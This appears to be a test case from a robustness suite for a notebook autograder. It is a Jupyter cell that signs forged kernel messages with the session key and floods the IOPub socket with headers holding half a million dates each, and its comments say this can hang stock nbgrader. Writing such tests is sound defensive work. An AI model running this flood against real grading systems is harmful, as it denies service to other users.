# attack: signed messages whose headers are millions of dates, each of which would be read
# outcome: flagged: well formed|larger than
# stock: no: may hang stock nbgrader for its whole time
import json

kernel = get_ipython().kernel
session, parent = kernel.session, get_ipython().parent_header
own = json.dumps(parent.get("header", {}), default=str).encode()


def post(header, parent=own, metadata=b"{}", content=b"{}", more=(), socket=kernel.iopub_socket, first=()):
    parts = [header, parent, metadata, content]
    socket.send_multipart([*first, b"<IDS|MSG>", session.sign(parts), *parts, *more])


def header(kind="stream"):
    return json.dumps({"msg_id": session.msg_id, "msg_type": kind, "version": "5.3", "session": session.session}).encode()


dates = json.dumps({"msg_type": "stream", "dates": ["2026-01-01T00:00:00.000000Z"] * 500_000}).encode()
for _ in range(100):
    post(dates)
